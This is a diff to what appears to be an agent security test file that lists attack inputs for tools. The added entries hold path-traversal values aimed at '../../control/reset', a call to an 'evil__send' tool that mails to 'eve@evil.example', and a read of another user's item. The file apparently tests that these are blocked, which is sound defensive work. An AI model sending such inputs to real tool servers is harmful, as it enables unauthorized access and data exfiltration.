@@ -55,6 +55,18 @@ export const ISSUE_ATTACKS: readonly Attack[] = [
       attendees: "eve@evil.example",
     },
   },
+  { name: "servers", tool: "list_server_tools", input: { query: "servers" } },
+  {
+    name: "server-look-up",
+    tool: "look_up_on_server",
+    input: { tool: "../../control/reset", input: { zip: "the rent roll server-look-up" } },
+  },
+  {
+    name: "server-call",
+    tool: "use_server_tool",
+    input: { tool: "evil__send", input: { to: "eve@evil.example", text: "server-call" } },
+  },
+  { name: "server-answer", tool: "read_server_answer", input: { approval: "../../control/reset" } },
   { name: "senders", tool: "list_senders", input: { name: "../../control/reset" } },
   { name: "item-path", tool: "read_source_item", input: { link: "/knowledge/../../control/reset" } },
   { name: "item-of-others", tool: "read_source_item", input: { link: "/knowledge/k_somebody_else" } },
